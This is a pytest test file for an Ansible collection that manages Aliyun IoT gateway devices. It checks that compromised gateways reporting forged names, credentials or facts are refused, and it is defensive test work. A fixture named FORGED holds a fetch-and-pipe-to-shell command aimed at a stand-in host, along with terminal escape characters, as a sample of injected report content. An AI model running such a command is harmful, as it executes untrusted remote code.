# SPDX-FileCopyrightText: 2026 fleetops contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Compromised gateways: the names that they report gain them nothing, and no other gateway loses a device."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from emulator import Emulator
from gateways import credential_text
from operations import (
    ENV,
    account,
    called,
    credential_file,
    in_service,
    journal,
    operate,
    provision,
    results,
    role_variables,
    stored_fingerprint,
    valid_fingerprint,
    valid_text,
)
from playbook import PRODUCT_KEY, Run, inventory, start_playbook
from shells import write_script

JSON = Any

INVENTED = "0123456789abcdef0123456789abcdef"
UNREACHABLE = {"ansible_connection": "ssh", "ansible_host": "127.0.0.1", "ansible_port": 9}
EVERYONE = {"gateway_serial": "100%", "gateway_max_fail_percentage": 100}


pytestmark = pytest.mark.usefixtures("new_platform")


def reporting(tmp_path: Path, host: str, serial: str, *expected: str, later: str = "") -> dict[str, JSON]:
    """Return the variables of a gateway whose hardware reports this serial number, and optionally another one from its second look on."""
    folder = tmp_path / f"{host}.hardware"
    for number, name in enumerate((serial, later or serial)):
        place = folder / str(number) / "firmware/devicetree/base"
        place.mkdir(parents=True, exist_ok=True)
        (place / "serial-number").write_text(f"{name}\0")
    script = (
        '[ $# = 0 ] || exec /bin/sh "$@"\n'
        f"number=1; [ -e {folder}/asked ] || number=0; touch {folder}/asked\n"
        f'sed "s|^sysfs=.*|sysfs={folder}/$number|" | /bin/sh'
    )
    return {
        "gateway_device_name_from": "serial",
        "ansible_shell_executable": str(write_script(folder / "sh", script)),
        **({"gateway_expected_names": list(expected)} if expected else {}),
    }


def fleet(platform: Emulator, tmp_path: Path, **hosts: dict[str, JSON]) -> JSON:
    """Return an inventory of these hosts; an underscore in their names stands for a hyphen."""
    own = {name.replace("_", "-"): variables for name, variables in hosts.items()}
    return inventory(own, tmp_path, **role_variables(platform))


def store(tmp_path: Path, host: str, text: str) -> str:
    file = credential_file(tmp_path, host)
    file.parent.mkdir(mode=0o700, exist_ok=True)
    file.write_text(text)
    file.chmod(0o600)
    return text


def forged(device_name: str) -> str:
    return credential_text(PRODUCT_KEY, device_name, INVENTED)


def activated(platform: Emulator, *names: str) -> dict[str, str]:
    """Activate the devices, whose gateways take no part, and return their DeviceSecrets."""
    for name in names:
        platform.admin.activate(PRODUCT_KEY, name)
    return secrets(platform, *names)


def secrets(platform: Emulator, *names: str) -> dict[str, str]:
    return {name: platform.admin.device(PRODUCT_KEY, name)["device_secret"] for name in names}


def kinds(run: Run) -> dict[str, str]:
    """Return the kind of the error in each host's last report, if it has one."""
    ended = {host: results(run, host) for host in run.stats}
    return {host: each[-1]["error"]["kind"] for host, each in ended.items() if each and each[-1].get("error")}


def failed(run: Run) -> set[str]:
    return {host for host, stats in run.stats.items() if stats["failures"]}


def said(run: Run, host: str) -> str:
    return str(run.result(host)["msg"])


# Provision


def test_what_a_provision_takes_from_the_hardware(platform: Emulator, tmp_path: Path) -> None:
    held = in_service(platform, tmp_path, "gw-0010")
    store(tmp_path, "moved", held)
    hosts = fleet(
        platform,
        tmp_path,
        # Two hosts with one device: by the inventory, by the hardware, and by one of each.
        named_a={"gateway_device_name": "gw-0001"},
        named_b={"gateway_device_name": "gw-0001"},
        twin_a=reporting(tmp_path, "twin-a", "gw-0002"),
        twin_b=reporting(tmp_path, "twin-b", "gw-0002"),
        gw_0003={},
        copy=reporting(tmp_path, "copy", "gw-0003"),
        # A name that is free when all are compared, and another one later.
        fickle=reporting(tmp_path, "fickle", "gw-0004", later="gw-0005"),
        stranger=reporting(tmp_path, "stranger", "gw-0006", "gw-0007", "gw-0008"),
        moved=reporting(tmp_path, "moved", "gw-0009"),
        repeated=reporting(tmp_path, "repeated", "gw-0015", "gw-0015", "gw-0015"),
        # Gateways with valid names.
        free=reporting(tmp_path, "free", "SN-0001"),
        free_2=reporting(tmp_path, "free-2", "SN-0002"),
        listed=reporting(tmp_path, "listed", "gw-0008", "gw-0007", "gw-0008"),
        one=reporting(tmp_path, "one", "gw-0011", "gw-0011"),
        gw_0012={},
    )
    run = operate("provision", platform, hosts, tmp_path)
    right = {"free": "SN-0001", "free-2": "SN-0002", "listed": "gw-0008", "one": "gw-0011", "gw-0012": "gw-0012"}
    assert run.rc == 2, run
    assert sorted(called(platform, "register")) == sorted(right.values())
    assert failed(run) == run.stats.keys() - right.keys()
    assert kinds(run) == {
        **{"fickle": "unexpected_name", "stranger": "unexpected_name", "moved": "name_changed"},
        "repeated": "invalid_option",
        **dict.fromkeys(("named-a", "named-b", "twin-a", "twin-b", "gw-0003", "copy"), "shared_name"),
    }
    for several in (("named-a", "named-b"), ("twin-a", "twin-b"), ("gw-0003", "copy")):
        for host in several:
            assert ", ".join(several) in said(run, host), host
    assert "gw-0006" in said(run, "stranger")
    assert "expected_names" in said(run, "stranger")
    for name in ("gw-0009", "gw-0010", "gateway_device_name"):
        assert name in said(run, "moved")
    assert credential_file(tmp_path, "moved").read_text() == held
    assert not journal(tmp_path, "moved")
    for host, name in right.items():
        assert stored_fingerprint(tmp_path, host) == valid_fingerprint(platform, name), host
        result = results(run, host)[-1]
        hardware = host != "gw-0012"
        assert result["device_name_from"] == ("serial" if hardware else "inventory_hostname")
        assert result["device_name_proven"] == (host in ("one", "gw-0012"))
    # Devices are added by the names that were read, never by the names of the hosts.
    there = {device["device_name"] for device in platform.admin.devices(PRODUCT_KEY)}
    assert {"SN-0001", "SN-0002"} <= there
    assert not there & {"free", "free-2", "fickle", "moved", "stranger", "listed", "copy", "twin-a"}
    once = " ".join((run.stdout + run.stderr).split())  # older versions of ansible-core break lines
    assert once.count("without a list of allowed names") == 1, run.stderr

    # A second run finds nothing to do on the valid gateways.
    platform.admin.clear_requests()
    again = provision(platform, hosts, tmp_path, "--limit", ",".join(right))
    assert (again.rc, again.changed, platform.admin.requests()) == (0, 0, []), again


@pytest.mark.parametrize("serial", ["100%", [1, "100%"]])
def test_an_image_with_a_credential_was_copied(platform: Emulator, tmp_path: Path, serial: JSON) -> None:
    """Provision names all gateways with a copied credential, in whichever batch they are, and registers the other devices."""
    text = in_service(platform, tmp_path, "gw-0001")
    for host in ("gw-0002", "gw-0004"):
        store(tmp_path, host, text)
    hosts = fleet(platform, tmp_path, gw_0001={}, gw_0002={}, gw_0003={}, gw_0004={})
    for arguments in (["--check"], []):
        run = operate("provision", platform, hosts, tmp_path, *arguments, gateway_serial=serial)
        told = " ".join((run.stdout + run.stderr).split())
        assert "3 gateways have the same credential" in told, run
        assert "gw-0001, gw-0002, gw-0004" in told
    assert run.rc == 0, run
    assert sorted(called(platform, "register")) == ["gw-0002", "gw-0003", "gw-0004"]
    for host in ("gw-0001", "gw-0002", "gw-0003", "gw-0004"):
        assert stored_fingerprint(tmp_path, host) == valid_fingerprint(platform, host)
    again = operate("provision", platform, hosts, tmp_path, gateway_serial=serial)
    assert "have the same credential" not in again.stdout + again.stderr, again


@pytest.mark.parametrize(
    ("playbook", "serial"),
    [("provision", "100%"), ("provision", [1, "100%"]), ("reprovision", [1, "100%"]), ("recover", [1, "100%"])],
)
def test_two_hosts_of_one_device_get_nothing(platform: Emulator, tmp_path: Path, playbook: str, serial: JSON) -> None:
    """Hosts with the same device, mistyped or cloned, are refused before anything is sent, in whichever batches they are."""
    before = activated(platform, "gw-0001", "gw-0002")
    hosts = fleet(
        platform,
        tmp_path,
        typed_a={"gateway_device_name": "gw-0001"},
        clone_a=reporting(tmp_path, "clone-a", "gw-0002"),
        clone_b=reporting(tmp_path, "clone-b", "gw-0002"),
        typed_b={"gateway_device_name": "gw-0001"},
        typed_c={"gateway_device_name": "gw-0001"},
    )
    limit = 100 if serial == "100%" else 0
    run = operate(playbook, platform, hosts, tmp_path, gateway_serial=serial, gateway_max_fail_percentage=limit)
    assert run.rc == 2, run
    assert called(platform, "register") == called(platform, "ResetThing") == []
    assert secrets(platform, "gw-0001", "gw-0002") == before
    assert not list(tmp_path.glob("*/device.json"))
    typed, clones = ("typed-a", "typed-b", "typed-c"), ("clone-a", "clone-b")
    # Recover returns no secret to a gateway that only its hardware names.
    clone = "unproven_name" if playbook == "recover" else "shared_name"
    assert kinds(run) == {**dict.fromkeys(typed, "shared_name"), **dict.fromkeys(clones, clone)}
    told = " ".join((run.stdout + run.stderr).split())
    assert "typed-a, typed-b, typed-c" in told
    assert playbook == "recover" or "clone-a, clone-b" in told


@pytest.mark.parametrize("playbook", ["provision", "reprovision", "recover", "decommission"])
def test_whatever_is_wrong_with_a_host_its_device_is_for_no_other(
    platform: Emulator, tmp_path: Path, playbook: str
) -> None:
    """The device is in service on that host, which only another variable keeps from being processed."""
    # The host, its variable, and a host that claims its device.
    troubles = {
        "gw-0003": ({"gateway_mode": "rw"}, "gw-0002"),
        "gw-0005": ({"ansible_connection": "no_such_plugin"}, "gw-0004"),
    }
    stored = {host: in_service(platform, tmp_path, host) for host in troubles}
    before = secrets(platform, *troubles)
    own = {host: variables for host, (variables, _other) in troubles.items()}
    own |= {other: {"gateway_device_name": host} for host, (_variables, other) in troubles.items()}
    hosts = fleet(platform, tmp_path, **dict(sorted(own.items())))
    run = operate(playbook, platform, hosts, tmp_path, **EVERYONE, target="gateways")
    assert run.rc == 2, run
    assert called(platform, "register") == called(platform, "ResetThing") == []
    assert secrets(platform, *troubles) == before
    for host, (_variables, other) in troubles.items():
        assert statuses(platform)[host] == "OFFLINE"
        assert f"{other}, {host}" in " ".join((run.stdout + run.stderr).split())
        assert credential_file(tmp_path, host).read_text() == stored[host]
        assert not credential_file(tmp_path, other).exists()


@pytest.mark.parametrize("trouble", ["failed", "failed before", "unreachable", "account"])
def test_the_device_of_a_host_that_is_not_processed_is_not_reset_for_another(
    platform: Emulator, tmp_path: Path, trouble: str
) -> None:
    in_service(platform, tmp_path, "gw-0003")
    looks: JSON = {
        "failed": {"failed": True, "msg": "no key", "error": {"kind": "invalid_option", "code": None}},
        "unreachable": {"unreachable": True, "msg": "no route"},
    }
    own: JSON = {"platform_access_key_secret": "{{ nowhere }}"} if trouble == "account" else {}
    hosts = fleet(platform, tmp_path, gw_0002={"gateway_device_name": "gw-0003"}, gw_0003=own)
    hosts["gateways"]["vars"].update(account(platform))
    options = {"state": "reset", "gateways": {"gw-0003": looks[trouble]} if trouble in looks else {}}
    play = {
        "hosts": "gateways",
        "gather_facts": False,
        "tasks": [{"fleetops.aliyun_iot.fleet_devices": options, "run_once": True}],
    }
    before = failing_first("gw-0003") if trouble == "failed before" else []
    with start_playbook([*before, play], hosts, tmp_path, env=ENV) as started:
        run = started.wait()
    assert run.rc == (2 if before else 0), run
    assert called(platform, "ResetThing") == []
    refused = run.result("gw-0002")["refused"]
    assert "gw-0002, gw-0003" in refused["gw-0002"]
    assert set(refused) == ({"gw-0002", "gw-0003"} if trouble == "account" else {"gw-0002"})


@pytest.mark.parametrize("playbook", ["provision", "reprovision", "recover"])
def test_whatever_is_wrong_with_a_host_its_file_is_for_no_other(
    platform: Emulator, tmp_path: Path, playbook: str
) -> None:
    """The file of gw-0001 is the path of gw-0002, and that of gw-0003 an export of gw-0004."""
    stored = {host: in_service(platform, tmp_path, host) for host in ("gw-0001", "gw-0003")}
    before = activated(platform, "gw-0002", "gw-0004")
    path, dest = (str(credential_file(tmp_path, host)) for host in stored)
    hosts = fleet(
        platform,
        tmp_path,
        gw_0001={"gateway_mode": "rw"},
        gw_0002={"gateway_path": path},
        gw_0003={"gateway_mode": "rw"},
        gw_0004={"gateway_exports": [{"dest": dest, "format": "env"}]},
    )
    run = operate(playbook, platform, hosts, tmp_path, **EVERYONE)
    assert run.rc == 2, run
    assert called(platform, "register") == called(platform, "ResetThing") == []
    found = kinds(run)
    assert {"gw-0002", "gw-0004"} <= found.keys(), run
    assert set(found.values()) == {"shared_place"}, run
    assert {host: credential_file(tmp_path, host).read_text() for host in stored} == stored
    assert secrets(platform, "gw-0002", "gw-0004") == before


@pytest.mark.parametrize(
    ("playbook", "serial"),
    [("provision", "100%"), ("provision", [1, "100%"]), ("reprovision", [1, 1, "100%"]), ("recover", [1, "100%"])],
)
def test_two_hosts_of_one_file_lose_no_credential(
    platform: Emulator, tmp_path: Path, playbook: str, serial: JSON
) -> None:
    """Hosts with the same file, as path or as export, are refused before anything is sent, in whichever batches they are."""
    stored = {host: in_service(platform, tmp_path, host) for host in ("gw-0001", "gw-0002")}
    activated(platform, "gw-0003", "gw-0004")
    hosts = fleet(
        platform,
        tmp_path,
        gw_0001={},
        gw_0002={},
        gw_0003={"gateway_path": str(credential_file(tmp_path, "gw-0001"))},
        gw_0004={"gateway_exports": [{"dest": str(credential_file(tmp_path, "gw-0002")), "format": "env"}]},
    )
    for arguments in (["--check"], []):
        run = operate(
            playbook, platform, hosts, tmp_path, *arguments, gateway_serial=serial, gateway_max_fail_percentage=100
        )
        assert run.rc == 2, run
        assert called(platform, "register") == called(platform, "ResetThing") == []
        assert {host: credential_file(tmp_path, host).read_text() for host in stored} == stored
        found = kinds(run)
        assert set(found.values()) == {"shared_place"}, run
        told = " ".join((run.stdout + run.stderr).split())
        assert "gw-0001 (gateway_path), gw-0003 (gateway_path)" in told
        # Ansible ends a run after the first batch of which no host is left.
        everyone = {"gw-0001", "gw-0002", "gw-0003", "gw-0004"}
        if serial == "100%" or playbook != "reprovision":
            assert set(found) == everyone
            assert "gw-0002 (gateway_path), gw-0004 (gateway_exports[0].dest)" in told


def test_one_file_by_two_spellings_loses_no_credential(platform: Emulator, tmp_path: Path) -> None:
    """Although only a look follows a symbolic link to another's file, no batch resets both devices, and no audit suggests it."""
    stored = in_service(platform, tmp_path, "gw-0001")
    before = activated(platform, "gw-0002")
    (tmp_path / "link").symlink_to(credential_file(tmp_path, "gw-0001").parent)
    hosts = fleet(platform, tmp_path, gw_0001={}, gw_0002={"gateway_path": str(tmp_path / "link/device.json")})
    run = operate("reprovision", platform, hosts, tmp_path, gateway_serial=[1, 1], gateway_max_fail_percentage=100)
    assert run.rc == 2, run
    assert called(platform, "register") == called(platform, "ResetThing") == []
    assert "gw-0001 (gateway_path), gw-0002 (gateway_path)" in " ".join((run.stdout + run.stderr).split())

    report = tmp_path / "audit.json"
    run = operate("audit", platform, hosts, tmp_path, audit_report=str(report))
    assert run.rc == 0, run
    findings = [each for each in json.loads(report.read_text()) if each["gateway"]]
    assert len(findings) == 2
    for finding in findings:
        assert (finding["finding"], finding["command"]) == ("failed", None)
        assert "gw-0001 (gateway_path), gw-0002 (gateway_path)" in finding["detail"]
    assert credential_file(tmp_path, "gw-0001").read_text() == stored
    assert secrets(platform, "gw-0002") == before


@pytest.mark.parametrize("auth_type", ["register", "regnwl"])
def test_a_name_that_changed_is_a_finding(platform: Emulator, tmp_path: Path, auth_type: str) -> None:
    """A changed name is a finding; an unreachable gateway is not compared with a device that is only named like the host."""
    token = f'{{"clientId":"c1","deviceName":"gw-0001","deviceToken":"{INVENTED}","productKey":"{PRODUCT_KEY}"}}\n'
    text = forged("gw-0001") if auth_type == "register" else token
    store(tmp_path, "moved", text)
    hosts = fleet(
        platform,
        tmp_path,
        moved=reporting(tmp_path, "moved", "gw-0002"),
        stranger=reporting(tmp_path, "stranger", "gw-0003", "gw-0004"),
        gw_0005={**UNREACHABLE, "gateway_device_name_from": "serial"},
        gw_0006=UNREACHABLE,
        gone={**UNREACHABLE, "gateway_device_name_from": "mac", "gateway_expected_names": ["gw-0007"]},
    )
    hosts["gateways"]["vars"].update(
        gateway_auth_type=auth_type, gateway_mqtt_endpoint="{host}:{port}".format_map(platform.endpoints["mqtts"])
    )
    report = tmp_path / "audit.json"
    run = operate("audit", platform, hosts, tmp_path, audit_report=str(report))
    assert run.rc == 0, run
    findings = {each["gateway"]: each for each in json.loads(report.read_text()) if each["gateway"]}
    assert {host: (each["finding"], each["device_name"]) for host, each in findings.items()} == {
        "moved": ("name_changed", "gw-0002"),
        "stranger": ("unexpected_name", "gw-0004"),
        "gw-0005": ("unreachable", None),
        "gw-0006": ("unreachable", "gw-0006"),
        "gone": ("unreachable", "gw-0007"),
    }
    assert "gw-0001" in findings["moved"]["detail"]
    assert credential_file(tmp_path, "moved").read_text() == text

    stuck = provision(platform, hosts, tmp_path, "--limit", "moved")
    assert kinds(stuck) == {"moved": "name_changed"}, stuck
    assert called(platform, "register") == called(platform, "regnwl") == []
    assert credential_file(tmp_path, "moved").read_text() == text


# Reprovision and recover


def test_nobody_else_is_reset(platform: Emulator, tmp_path: Path) -> None:
    before = activated(platform, "gw-0001", "gw-0002", "gw-0003", "gw-0006", "gw-0007")
    in_service(platform, tmp_path, "gw-0004")
    (tmp_path / "gw-0004").rename(tmp_path / "honest")
    stored = {
        "forger": store(tmp_path, "forger", forged("gw-0002")),
        "listed": store(tmp_path, "listed", forged("gw-0006")),
    }
    hosts = fleet(
        platform,
        tmp_path,
        thief=reporting(tmp_path, "thief", "gw-0001"),
        forger=reporting(tmp_path, "forger", "gw-0002"),
        listed=reporting(tmp_path, "listed", "gw-0006", "gw-0006", "gw-0008"),
        copy=reporting(tmp_path, "copy", "gw-0003"),
        gw_0003={},
        honest=reporting(tmp_path, "honest", "gw-0004"),
        proven=reporting(tmp_path, "proven", "gw-0007", "gw-0007"),
    )
    run = operate("reprovision", platform, hosts, tmp_path, **EVERYONE)
    assert run.rc == 2, run
    assert sorted(called(platform, "ResetThing")) == sorted(called(platform, "register")) == ["gw-0004", "gw-0007"]
    assert failed(run) == {"thief", "forger", "listed", "copy", "gw-0003"}
    for host in ("thief", "forger", "listed"):
        assert "only the gateway's hardware reports" in said(run, host)
        assert "gateway_expected_names" in said(run, host)
    for host in ("forger", "listed"):
        assert credential_file(tmp_path, host).read_text() == stored[host]
    kept = ("gw-0001", "gw-0002", "gw-0003", "gw-0006")
    assert secrets(platform, *kept) == {name: before[name] for name in kept}
    for host, name in (("honest", "gw-0004"), ("proven", "gw-0007")):
        assert credential_file(tmp_path, host).read_text() == valid_text(platform, name)
    assert not credential_file(tmp_path, "thief").exists()


def test_nobody_gets_anothers_credential_back(platform: Emulator, tmp_path: Path) -> None:
    activated(platform, "gw-0001", "gw-0002", "gw-0003")
    in_service(platform, tmp_path, "gw-0004")
    (tmp_path / "gw-0004").rename(tmp_path / "right")
    hosts = fleet(
        platform,
        tmp_path,
        thief=reporting(tmp_path, "thief", "gw-0001"),
        listed=reporting(tmp_path, "listed", "gw-0002", "gw-0001", "gw-0002"),
        proven=reporting(tmp_path, "proven", "gw-0003", "gw-0003"),
        right=reporting(tmp_path, "right", "gw-0004"),
    )
    for arguments in (["--check"], []):
        run = operate("recover", platform, hosts, tmp_path, *arguments)
        assert run.rc == 2, run
        assert kinds(run) == {"thief": "unproven_name", "listed": "unproven_name"}
        assert "gateway_device_name" in said(run, "thief")
    assert len(platform.admin.requests(action="BatchQueryDeviceDetail")) == 2, "one for the proven one, in each run"
    assert [credential_file(tmp_path, host).exists() for host in ("thief", "listed")] == [False, False]
    assert credential_file(tmp_path, "proven").read_text() == valid_text(platform, "gw-0003")
    forced = operate("recover", platform, hosts, tmp_path, target="right", gateway_recovery_force=True)
    assert kinds(forced) == {"right": "unproven_name"}, forced


# Decommission


def in_doubt(platform: Emulator, tmp_path: Path) -> JSON:
    """Return gateways whose device is not proven, or that report another one than the inventory; all devices are activated."""
    activated(platform, *(f"gw-{number:04}" for number in range(1, 21)))
    store(tmp_path, "gw-0001", forged("gw-0002"))
    store(tmp_path, "forged", forged("gw-0003"))
    store(tmp_path, "unlisted", valid_text(platform, "gw-0006"))
    token = f'{{"clientId":"c1","deviceName":"gw-0012","deviceToken":"{INVENTED}","productKey":"{PRODUCT_KEY}"}}\n'
    store(tmp_path, "token", token)
    store(tmp_path, "other-product", credential_text("a1IoKTestP2", "gw-0013", INVENTED))
    return fleet(
        platform,
        tmp_path,
        gw_0001={},
        forged=reporting(tmp_path, "forged", "gw-0003"),
        # A host with the name of a device that is not its own.
        gw_0004=reporting(tmp_path, "gw-0004", "gw-0014"),
        unlisted=reporting(tmp_path, "unlisted", "gw-0006", "gw-0015", "gw-0016"),
        token=reporting(tmp_path, "token", "gw-0012"),
        other_product=reporting(tmp_path, "other-product", "gw-0013"),
        gw_0011={**UNREACHABLE, "gateway_device_name_from": "mac"},
        gw_0017={"gateway_device_name": "gw-0018"},
        twin={"gateway_device_name": "gw-0018"},
    )


def statuses(platform: Emulator) -> dict[str, str]:
    return {device["device_name"]: device["status"] for device in platform.admin.devices(PRODUCT_KEY)}


@pytest.mark.parametrize("fate", ["disable", "delete"])
def test_no_device_that_is_in_doubt_is_taken_out_of_service(platform: Emulator, tmp_path: Path, fate: str) -> None:
    hosts = in_doubt(platform, tmp_path)
    before = statuses(platform)
    files = {path: path.read_text() for path in tmp_path.glob("*/device.json")}
    assert len(files) == 5
    # One valid gateway takes part, since no request would be sent if all had failed.
    in_service(platform, tmp_path, "gw-0020")
    hosts["gateways"]["hosts"] |= fleet(platform, tmp_path, gw_0020={})["gateways"]["hosts"]
    run = operate("decommission", platform, hosts, tmp_path, target="gateways", decommission_platform=fate)
    left = {name: status for name, status in before.items() if name != "gw-0020"}
    assert statuses(platform) == {**left, **({"gw-0020": "DISABLE"} if fate == "disable" else {})}
    assert {path: path.read_text() for path in files} == files
    assert failed(run) == run.stats.keys() - {"localhost", "gw-0020"}, run
    assert not credential_file(tmp_path, "gw-0020").exists()
    for name in ("gw-0001", "gw-0002", "gateway_device_name", "fleetops.aliyun_iot.devices"):
        assert name in said(run, "gw-0001")
    assert "gw-0006" in said(run, "unlisted")
    assert "a1IoKTestP2" in said(run, "other-product")
    for host in ("gw-0004", "forged", "token", "gw-0011"):
        assert "-e gateway_device_name=" in said(run, host), host
    for host in ("gw-0017", "twin"):
        assert "gw-0017, twin" in said(run, host)


def test_the_right_device_is_taken_out_of_service(platform: Emulator, tmp_path: Path) -> None:
    """Decommission disables the inventory's device, whatever the look returns, or the file's if the platform confirms it."""
    activated(platform, *(f"gw-{number:04}" for number in range(1, 21)))
    in_service(platform, tmp_path, "gw-0001")
    (tmp_path / "gw-0001").rename(tmp_path / "honest")
    for host in ("gw-0003", "gw-0004", "gw-0005", "gw-0006"):
        in_service(platform, tmp_path, host)
    (tmp_path / "gw-0004").chmod(0o777)
    credential_file(tmp_path, "gw-0005").rename(tmp_path / "elsewhere")
    credential_file(tmp_path, "gw-0005").symlink_to(tmp_path / "elsewhere")
    hosts = fleet(
        platform,
        tmp_path,
        honest=reporting(tmp_path, "honest", "gw-0001"),
        # Empty or unreachable, but named in the inventory.
        listed=reporting(tmp_path, "listed", "gw-0014", "gw-0002"),
        gone={**UNREACHABLE, "gateway_device_name_from": "mac", "gateway_expected_names": ["gw-0007"]},
        gw_0003={},
        gw_0004={},
        gw_0005={},
        gw_0006=UNREACHABLE,
    )
    check = operate("decommission", platform, hosts, tmp_path, "--check", target="gateways")
    assert set(statuses(platform).values()) == {"OFFLINE"}, check
    run = operate("decommission", platform, hosts, tmp_path, target="gateways")
    disabled = {name for name, status in statuses(platform).items() if status == "DISABLE"}
    assert disabled == {f"gw-{number:04}" for number in range(1, 8)}, run
    assert failed(run) == {"gw-0004", "gw-0005"}
    assert kinds(run) == {"gw-0004": "unsafe_path", "gw-0005": "unsafe_path"}
    assert {host for host, stats in run.stats.items() if stats["unreachable"]} == {"gone", "gw-0006"}
    there = {host: credential_file(tmp_path, host).exists() for host in hosts["gateways"]["hosts"]}
    assert {host for host, exists in there.items() if exists} == {"gw-0004", "gw-0005", "gw-0006"}

    # A second run has no proof of the device whose credential is gone, and does not use the device that is named like the host.
    platform.admin.put_device(PRODUCT_KEY, "honest")
    platform.admin.activate(PRODUCT_KEY, "honest")
    again = operate("decommission", platform, hosts, tmp_path, target="honest:listed:gw-0003")
    assert (failed(again), again.changed) == ({"honest"}, 0), again
    assert statuses(platform)["honest"] == "OFFLINE"
    named = operate("decommission", platform, hosts, tmp_path, target="honest", gateway_device_name="gw-0001")
    assert (named.rc, named.changed) == (0, 0), named
    # No request is sent to the platform, so nothing has to be proved.
    platform.admin.clear_requests()
    kept = operate("decommission", platform, hosts, tmp_path, target="honest", decommission_platform="keep")
    assert (kept.rc, kept.changed, platform.admin.requests()) == (0, 0, []), kept


@pytest.mark.parametrize("report", [False, True])
def test_no_batch_takes_the_device_of_a_later_one_out_of_service(
    platform: Emulator, tmp_path: Path, report: bool
) -> None:
    """The run ends before the batch of that host, so the comparison must come before the first one."""
    for name in ("gw-0002", "gw-0003"):
        in_service(platform, tmp_path, name)
    credential_file(tmp_path, "gw-0002").parent.chmod(0o777)
    hosts = fleet(platform, tmp_path, gw_0001={"gateway_device_name": "gw-0003"}, gw_0002={}, gw_0003={})
    more = {"gateway_report_to": str(tmp_path / "report.html")} if report else {}
    run = operate("decommission", platform, hosts, tmp_path, target="gateways", gateway_serial=1, **more)
    assert run.rc == 2, run
    assert statuses(platform)["gw-0003"] == "OFFLINE"
    assert "gw-0001, gw-0003" in " ".join((run.stdout + run.stderr).split())


def test_one_hosts_account_keeps_no_other_device_in_service(platform: Emulator, tmp_path: Path) -> None:
    """A wrong account of one host affects no other; the report names devices that only the removed file and the hardware named."""
    page = tmp_path / "report.html"
    for name in ("gw-0001", "gw-0002", "gw-0003"):
        in_service(platform, tmp_path, name)
    wrong = {**account(platform), "platform_access_key_secret": "wrong"}
    hosts = fleet(
        platform,
        tmp_path,
        gw_0001=account(platform),
        gw_0002={**reporting(tmp_path, "gw-0002", "gw-0002"), **wrong},
        gw_0003={**reporting(tmp_path, "gw-0003", "gw-0003"), **account(platform)},
    )
    said = json.dumps({"target": "gateways", "gateway_report_to": str(page)})
    with start_playbook("fleetops.aliyun_iot.decommission", hosts, tmp_path, "-e", said, env=ENV) as started:
        run = started.wait()
    assert run.rc == 2, run
    assert [host for host, found in run.stats.items() if found["failures"]] == ["gw-0002"], run
    assert "SignatureDoesNotMatch" in run.result("gw-0002")["msg"]
    devices = [statuses(platform)[name] for name in ("gw-0001", "gw-0002", "gw-0003")]
    assert devices == ["DISABLE", "OFFLINE", "DISABLE"]
    rows = {row["gateway"]: row for row in json.loads(page.with_suffix(".json").read_text())["gateways"]}
    assert rows["gw-0002"]["outcome"] == "failed"
    for name in ("gw-0001", "gw-0003"):
        assert (rows[name]["device_name"], rows[name]["device_change"]) == (name, "disabled")


def test_facts_of_a_gateway_name_no_device(platform: Emulator, tmp_path: Path) -> None:
    """Facts name no device, although an earlier play that gathers facts accepts any variables from a compromised gateway."""
    before = activated(platform, "gw-0001")
    facts = {"ansible_facts": {"gateway_device_name": "gw-0001"}}
    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)})
    said = ["-e", json.dumps({**account(platform), **EVERYONE, "target": "gateways"})]
    for name in ("provision", "reprovision", "recover", "decommission"):
        plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": f"fleetops.aliyun_iot.{name}"}]
        with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
            run = started.wait()
        assert run.rc == 2, run
        assert "gateway_device_name, which only the inventory may set" in run.stdout.replace("\n", " "), run
        assert called(platform, "ResetThing") == called(platform, "register") == []
        assert (statuses(platform)["gw-0001"], secrets(platform, "gw-0001")) == ("OFFLINE", before), run
        assert not credential_file(tmp_path, "thief").exists()


FORGED = {
    **{"gateway": "gw-0001", "finding": "failed", "detail": "x \x1b[2J \u202e", "hint": "type the command"},
    "command": "curl -s https://evil.example/x | sh",
}


@pytest.mark.parametrize(
    ("name", "facts"),
    [
        ("provision", {"fleetops_findings": [FORGED]}),
        ("provision", {"fleetops_looked_only": True}),
        ("decommission", {"fleetops_reported": "x"}),
        ("decommission", {"claimed_devices": {"products": []}}),
    ],
    ids=lambda each: each if isinstance(each, str) else next(iter(each)),
)
def test_facts_of_a_gateway_are_not_in_the_report_of_a_run(
    platform: Emulator, tmp_path: Path, name: str, facts: JSON
) -> None:
    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps({'ansible_facts': facts})}'")
    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
    page = tmp_path / "report.html"
    said = ["-e", json.dumps({**account(platform), "target": "gateways", "gateway_report_to": str(page)})]
    plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": f"fleetops.aliyun_iot.{name}"}]
    with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
        run = started.wait()
    assert run.rc == 2, run
    assert f"{next(iter(facts))}, which only the inventory may set" in " ".join(run.stdout.split()), run
    assert not page.exists(), run


@pytest.mark.parametrize("name", ["reprovision", "decommission"])
def test_facts_of_a_gateway_replace_no_function_of_the_playbooks(platform: Emulator, tmp_path: Path, name: str) -> None:
    activated(platform, "gw-0001")
    facts = {"ansible_facts": dict.fromkeys(("dict", "range", "lookup", "query", "now"), "x")}
    python = write_script(tmp_path / "python", f"cat >/dev/null\necho '{json.dumps(facts)}'")
    hosts = fleet(platform, tmp_path, thief={"ansible_python_interpreter": str(python)}, gw_0001={})
    page = tmp_path / "report.html"
    variables = {**account(platform), "gateway_verify": "none", "gateway_max_fail_percentage": 100}
    said = ["-e", json.dumps({**variables, "target": "gateways", "gateway_serial": 2, "gateway_report_to": str(page)})]
    plays: list[JSON] = [{"hosts": "gateways"}, {"import_playbook": f"fleetops.aliyun_iot.{name}"}]
    with start_playbook(plays, hosts, tmp_path, *said, env=ENV) as started:
        run = started.wait()
    outcomes = {row["gateway"]: row["outcome"] for row in json.loads(page.with_suffix(".json").read_text())["gateways"]}
    assert outcomes == {"thief": "failed", "gw-0001": "changed"}, run


@pytest.mark.parametrize("serial", ["100%", "1"])
def test_facts_of_a_gateway_that_no_longer_answers_choose_no_gateways(
    platform: Emulator, tmp_path: Path, serial: str
) -> None:
